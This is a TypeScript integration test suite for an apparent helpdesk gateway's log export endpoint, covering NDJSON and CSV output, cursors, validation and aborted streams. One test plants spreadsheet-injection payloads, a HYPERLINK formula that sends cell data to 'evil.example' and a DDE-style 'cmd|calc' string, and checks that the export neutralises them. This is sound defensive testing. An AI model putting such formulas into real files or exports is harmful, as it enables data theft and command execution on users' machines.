import { get, type IncomingMessage } from 'node:http';
import { parse } from 'csv-parse/sync';
import { Client } from 'pg';
import { LogPages } from '../../src/audit/log-pages.js';
import { newId } from '../../src/clock/new-id.js';
import { type Answer, call, TestGateway } from '../support/test-gateway.js';

/** More than two batches of an export. */
const MANY = 1_203;

describe('exports of the log', () => {
  let gateway: TestGateway;
  let client: Client;
  const destinationId = newId(new Date());

  beforeAll(async () => {
    gateway = await TestGateway.start();
    client = new Client({ connectionString: gateway.databaseUrl });
    await client.connect();
    await insertMany();
  });

  afterAll(async () => {
    await client.end();
    await gateway.stop();
  });

  async function insertMany(): Promise<void> {
    const rows = Array.from({ length: MANY }, (_, index) => ({
      id: newId(new Date()),
      event_id: newId(new Date()),
      source_id: newId(new Date()),
      destination_id: destinationId,
      type: 'ticket.created',
      lane: '',
      sequence: index,
      has_sibling: false,
      state: 'delivered',
      attempts: 1,
      tries: 1,
      channel: 'support',
      topic: `#${index}`,
      content: `${index} ${'x'.repeat(8_000)}`,
      message_id: index,
      created_at: new Date(),
      finished_at: new Date(),
      in_doubt: false,
      send_alone: false,
    }));
    await client.query('insert into deliveries select * from jsonb_populate_recordset(null::deliveries, $1::jsonb)', [
      JSON.stringify(rows),
    ]);
  }

  const exported = (list: string, query: string, key = gateway.adminKey): Promise<Answer> =>
    call(`${gateway.url}/api/v1/${list}/export?${query}`, { headers: { authorization: `Bearer ${key}` } });
  const linesOf = ({ text }: Answer): Record<string, unknown>[] =>
    text
      .split('\n')
      .filter((line) => line !== '')
      .map((line) => JSON.parse(line) as Record<string, unknown>);

  it('hold every row that the list has, in its order, a document a line', async () => {
    const answer = await exported('deliveries', `destination_id=${destinationId}`);
    const lines = linesOf(answer);
    expect([answer.status, answer.headers.get('content-type')]).toEqual([200, 'application/x-ndjson; charset=utf-8']);
    expect(answer.headers.get('content-disposition')).toMatch(
      /^attachment; filename="deskwire-deliveries-\d{4}-\d{2}-\d{2}\.ndjson"$/,
    );
    expect(lines.map((line) => line['topic'])).toEqual(
      Array.from({ length: MANY }, (_, index) => `#${MANY - 1 - index}`),
    );
    const list = await gateway.api('GET', `/deliveries?destination_id=${destinationId}&limit=500`);
    expect(lines.slice(0, 500).map(({ cursor, ...row }) => [typeof cursor, row])).toEqual(
      list.body.data.map((row) => ['string', row]),
    );
  });

  it('go on after any row, by its cursor, and from a page of the list', async () => {
    const query = `destination_id=${destinationId}`;
    const whole = linesOf(await exported('deliveries', query)).map((line) => line['id']);
    const rest = await exported(
      'deliveries',
      `${query}&cursor=${String(linesOf(await exported('deliveries', query))[700]?.['cursor'])}`,
    );
    expect(linesOf(rest).map((line) => line['id'])).toEqual(whole.slice(701));
    const page = await gateway.api('GET', `/deliveries?${query}&limit=7`);
    const afterPage = await exported('deliveries', `${query}&cursor=${String(page.body['next_cursor'])}&format=csv`);
    expect(parse<Record<string, string>>(afterPage.text, { columns: true }).map((row) => row['id'])).toEqual(
      whole.slice(7),
    );
  });

  it('are tables that spreadsheets neither misread nor run', async () => {
    await gateway.groove('ticket_started', {
      number: 41,
      title: '=HYPERLINK("http://evil.example/?"&A1, "click")',
      customer_name: '@SUM(1+1)*cmd|calc',
      snippet: 'two\nlines, "quoted"; ä',
    });
    const answer = await exported('events', 'ticket=41&format=csv');
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(answer.text.split('\r\n')[0]).toBe(
      'id,received_at,occurred_at,outcome,type,native_type,source_id,source,provider,ticket_key,ticket_number,ticket_title,ticket_url,' +
        'ticket_status,ticket_priority,requester_name,requester_email,assignee_name,assignee_email,actor_name,actor_email,message,' +
        'duplicate_of,reason,detail,route_revision,matched,cursor',
    );
    const [row, ...others] = parse<Record<string, string>>(answer.text, { columns: true });
    expect(others).toEqual([]);
    expect(row).toMatchObject({
      type: 'ticket.created',
      provider: 'groove',
      ticket_number: '41',
      ticket_title: `'=HYPERLINK("http://evil.example/?"&A1, "click")`,
    });
    for (const cell of Object.values(row ?? {})) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('read no more of the log than its first rows for whoever asks for headers alone', async () => {
    const read = jest.spyOn(LogPages.prototype, 'read');
    const answer = await call(`${gateway.url}/api/v1/deliveries/export?destination_id=${destinationId}&format=csv`, {
      method: 'HEAD',
      headers: { authorization: `Bearer ${gateway.adminKey}` },
    });
    expect([answer.status, answer.headers.get('content-type')]).toEqual([
      200,
      'text/csv; charset=utf-8; header=present',
    ]);
    // One more question of the same process: a stream that is read for nobody has gone on by then.
    expect(linesOf(await exported('deliveries', `destination_id=${destinationId}`))).toHaveLength(MANY);
    expect(read).toHaveBeenCalledTimes(1 + 3);
    read.mockRestore();
  });

  it('of nothing are empty, or a head', async () => {
    expect((await exported('deliveries', 'reason=nothing')).text).toBe('');
    expect((await exported('deliveries', 'reason=nothing&format=csv')).text).toMatch(
      /^id,event_id,[a-z_,]*cursor\r\n$/,
    );
  });

  it.each([
    ['format=xml', 'validation_failed'],
    ['limit=5', 'validation_failed'],
    ['colour=red', 'validation_failed'],
    ['since=2026-02-01T00:00:00Z&until=2026-01-01T00:00:00Z', 'validation_failed'],
    ['q=...', 'validation_failed'],
    ['cursor=abc', 'invalid_cursor'],
  ])('refuse %s', async (query, code) => {
    for (const list of ['deliveries', 'events']) {
      const answer = await exported(list, query);
      expect([answer.status, answer.body['code']]).toEqual([400, code]);
    }
  });

  it('refuse cursors of another query, and those that lead the other way', async () => {
    const first = await gateway.api('GET', `/deliveries?destination_id=${destinationId}&limit=2`);
    const foreign = await exported('deliveries', `state=delivered&cursor=${String(first.body['next_cursor'])}`);
    expect([foreign.status, foreign.body['code']]).toEqual([400, 'invalid_cursor']);
    const second = await gateway.api(
      'GET',
      `/deliveries?destination_id=${destinationId}&limit=2&cursor=${String(first.body['next_cursor'])}`,
    );
    const back = await exported(
      'deliveries',
      `destination_id=${destinationId}&cursor=${String(second.body['prev_cursor'])}`,
    );
    expect([back.status, back.body['detail']]).toEqual([
      400,
      'cursor: leads to newer rows; an export goes on to older ones.',
    ]);
  });

  it('are broken off where they cannot be completed, visibly', async () => {
    const other = await TestGateway.start();
    const source = new Client({ connectionString: other.databaseUrl });
    await source.connect();
    await source.query(
      `insert into deliveries (id, event_id, source_id, destination_id, type, lane, sequence, state, content, created_at)
       select (substr(md5(n::text), 1, 0) || $1 || lpad(to_hex(n), 12, '0'))::uuid, $2, $2, $2, 'ping', '', n, 'delivered',
              repeat(md5(n::text), 300), now()
       from generate_series(1, 3000) n`,
      [newId(new Date()).slice(0, 24), destinationId],
    );
    await source.end();
    const reading = await new Promise<IncomingMessage>((resolve, reject) => {
      const headers = { authorization: `Bearer ${other.adminKey}` };
      get(`${other.url}/api/v1/deliveries/export`, { headers }, resolve).on('error', reject);
    });
    // Not read any further: the export waits for its reader, and the gateway is stopped all the same.
    reading.pause();
    const end = new Promise<string>((resolve) => {
      reading.on('error', (error) => {
        resolve(error.message);
      });
      reading.on('end', () => {
        resolve('complete');
      });
    });
    await other.stop();
    reading.resume();
    expect(await end).toBe('aborted');
  });
});
